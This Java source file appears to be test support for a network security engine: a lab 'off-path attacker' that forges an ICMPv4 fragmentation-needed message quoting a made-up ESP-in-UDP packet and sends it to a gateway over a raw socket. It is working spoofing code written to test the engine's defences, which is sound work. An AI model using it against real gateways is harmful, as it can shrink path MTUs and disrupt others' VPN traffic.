package io.pathsec.engine.testsupport;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.pathsec.engine.linux.LinuxLibC;
import io.pathsec.engine.packet.Checksums;

import java.net.InetAddress;

/**
 * An off-path attacker, run in a lab namespace: sends one ICMPv4 "fragmentation needed" with a
 * made-up quoted ESP-in-UDP packet to a gateway, from a raw socket.
 *
 * <pre>ForgedIcmp TARGET MTU QUOTED_SRC QUOTED_DST SRC_PORT DST_PORT SPI_HEX SEQ</pre>
 * Prints {@code sent N}.
 */
public final class ForgedIcmp {
    private ForgedIcmp() {
    }

    public static void main(String[] args) throws Exception {
        InetAddress target = InetAddress.getByName(args[0]);
        byte[] message = message(Integer.parseInt(args[1]), InetAddress.getByName(args[2]),
                InetAddress.getByName(args[3]), Integer.parseInt(args[4]), Integer.parseInt(args[5]),
                (int) Long.parseLong(args[6], 16), Long.parseLong(args[7]));
        LinuxLibC.Functions c = LinuxLibC.C;
        int fd = LinuxLibC.check(c.socket(LinuxLibC.AF_INET, LinuxLibC.SOCK_RAW, LinuxLibC.IPPROTO_ICMP), "socket(SOCK_RAW)");
        byte[] sockaddr = new byte[16]; // struct sockaddr_in: family (host order), port, address
        sockaddr[0] = 2;
        System.arraycopy(target.getAddress(), 0, sockaddr, 4, 4);
        long n = c.sendto(fd, message, message.length, 0, sockaddr, sockaddr.length);
        c.close(fd);
        System.out.println("sent " + n);
    }

    /** ICMP type 3 code 4 with {@code mtu}, quoting an IPv4 + UDP + ESP header. */
    public static byte[] message(int mtu, InetAddress quotedSource, InetAddress quotedDestination, int sourcePort,
                                 int destinationPort, int spi, long sequence) {
        ByteBuf b = Unpooled.buffer(8 + 20 + 8 + 8 + 32);
        b.writeByte(3).writeByte(4).writeShort(0).writeShort(0).writeShort(mtu);
        int ip = b.writerIndex();
        b.writeByte(0x45).writeByte(0).writeShort(1500).writeShort(0x1234).writeShort(0x4000)
                .writeByte(64).writeByte(17).writeShort(0)
                .writeBytes(quotedSource.getAddress()).writeBytes(quotedDestination.getAddress());
        Checksums.updateIpv4HeaderChecksum(b, ip);
        b.writeShort(sourcePort).writeShort(destinationPort).writeShort(1480).writeShort(0);
        b.writeInt(spi).writeInt((int) sequence);
        b.writeZero(32);
        b.setShort(2, Checksums.internetChecksum(b, 0, b.writerIndex()));
        byte[] out = new byte[b.readableBytes()];
        b.readBytes(out);
        return out;
    }
}
